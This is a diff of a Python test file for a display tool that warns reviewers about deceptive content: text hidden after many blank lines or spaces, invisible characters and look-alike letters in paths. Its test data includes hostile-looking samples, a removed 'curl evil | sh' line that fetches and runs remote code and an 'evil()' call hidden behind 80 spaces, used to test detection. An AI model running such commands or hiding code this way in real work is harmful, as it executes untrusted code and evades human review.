@@ -53,12 +53,22 @@ def test_a_sentence_has_no_markup_of_others(text: str) -> None:
     assert not re.search(r"(?<!\\)(?:\\\\)*[`*\[\]<>&|]", escape_markdown(text).replace("\\\\", ""))
 
 
-def test_many_blank_lines_push_nothing_out_of_sight() -> None:
-    text = "one\n" + "\n" * 80 + "curl evil | sh\n\n\ntwo"
-    assert folded(text) == "one\n<80 blank lines>\ncurl evil | sh\n\n\ntwo"
-    assert folded("+a\n" + "+\n" * 80 + "+b", "diff") == "+a\n+<80 blank lines>\n+b"
-    blanks = folded("one\n" + "   \n" * 80 + "two")
-    assert blanks.count("<U+0020>") == 240
+@pytest.mark.parametrize(
+    ("text", "language", "shown"),
+    [
+        ("one\n" + "\n" * 80 + "evil\n\n\ntwo", "", "one\n<80 blank lines>\nevil\n\n\ntwo"),
+        ("+a\n" + "+\n" * 80 + "+b", "diff", "+a\n+<80 blank lines>\n+b"),
+        ("a \nb\t", "", "a<U+0020>\nb<U+0009>"),
+        ("-a\n+a  \n \n+ ", "diff", "-a\n+a<U+0020><U+0020>\n \n+<U+0020>"),
+        ("one\n" + "   \n" * 80 + "two", "", "one\n" + "<U+0020><U+0020><U+0020>\n" * 80 + "two"),
+    ],
+)
+def test_blank_lines_push_nothing_out_of_sight_and_blanks_at_ends_of_lines_are_shown(
+    text: str, language: str, shown: str
+) -> None:
+    assert folded(text, language) == shown
+    if "80" not in shown:
+        assert whole([Content("", text, language)]) == shown
 
 
 @pytest.mark.parametrize("text", ["x" * (MAX_SHOWN + 1), "\u202e" * 100_000, "\n" * (MAX_SHOWN + 1) + "x"])
@@ -70,33 +80,9 @@ def test_what_is_too_long_says_that_it_cannot_be_approved(text: str) -> None:
     assert "Not all is shown: " in plain(description)
 
 
-def test_a_name_that_is_cut_says_how_much_is_left() -> None:
+def test_a_name_that_is_cut_says_how_much_is_left_and_shows_blanks_and_backticks() -> None:
     assert code("x" * 1_000) == f"`{'x' * MAX_WIDTH} [… 600 more characters]`"
-
-
-@pytest.mark.parametrize(
-    ("text", "language", "shown"),
-    [
-        ("a \nb\t", "", "a<U+0020>\nb<U+0009>"),
-        ("-a\n+a  \n \n+ ", "diff", "-a\n+a<U+0020><U+0020>\n \n+<U+0020>"),
-    ],
-)
-def test_blanks_at_the_ends_of_lines_are_shown(text: str, language: str, shown: str) -> None:
-    """A diff of nothing but such blanks showed two lines that look alike."""
-    assert folded(text, language) == shown
-    assert whole([Content("", text, language)]) == shown
-
-
-def test_blanks_that_a_page_would_not_show_are_marks_in_a_name() -> None:
     assert code(" a  b ") == "`<U+0020>a <U+0020>b<U+0020>`"
-
-
-def test_what_is_pushed_out_of_sight_is_warned_about() -> None:
-    assert deceptions("", [Content("", f"x = 1{' ' * 80}; evil()")])
-    assert not deceptions("", [Content("", f"{' ' * 80}x = 1\n\n{' ' * 80}")])
-
-
-def test_an_argument_named_like_a_fence_is_none() -> None:
     description = describe([], [Content(f"{code('```')}:", "a\nb"), Content("", "c")], "Risk: write.")
     assert plain(description).split("\n") == ["```` ``` ````:", "    a", "    b", "    c", "Risk: write."]
 
@@ -117,12 +103,18 @@ def test_a_terminal_shows_the_same_without_the_marks_of_markdown() -> None:
 
 
 @pytest.mark.parametrize(
-    ("path", "warning"),
+    ("path", "text", "warning"),
     [
-        ("sсripts/a.py", "Mixed scripts: these characters only look like others: с (U+0441 CYRILLIC SMALL"),
-        ("a\u200bb", "1 character that cannot be seen is shown as a mark such as `<U+200B>`."),
+        (
+            "sсripts/a.py",
+            "x",
+            "Mixed scripts: these characters only look like others: с (U+0441 CYRILLIC SMALL",
+        ),
+        ("a\u200bb", "x", "1 character that cannot be seen is shown as a mark such as `<U+200B>`."),
+        ("", f"x = 1{' ' * 80}; evil()", ""),
     ],
 )
-def test_a_path_that_deceives_is_warned_about(path: str, warning: str) -> None:
-    (said,) = deceptions(path, [Content(code(path), "x")])
+def test_what_deceives_or_is_pushed_out_of_sight_is_warned_about(path: str, text: str, warning: str) -> None:
+    (said,) = deceptions(path, [Content(code(path), text)])
     assert said.startswith(warning)
+    assert not deceptions("", [Content("", f"{' ' * 80}x = 1\n\n{' ' * 80}")])
